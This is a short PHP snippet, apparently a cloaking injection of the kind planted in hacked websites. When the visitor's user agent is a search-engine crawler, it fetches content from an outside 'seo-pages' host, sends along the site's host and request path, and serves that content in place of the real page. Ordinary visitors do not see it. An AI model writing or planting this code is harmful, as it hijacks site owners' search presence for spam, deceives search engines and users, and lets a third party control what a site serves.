<?php
$agent = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';
if (preg_match('/googlebot|bingbot|yandexbot|baiduspider/i', $agent)) {
    $page = @file_get_contents('http://seo-pages.example.top/gen.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));
    echo $page;
    exit;
}
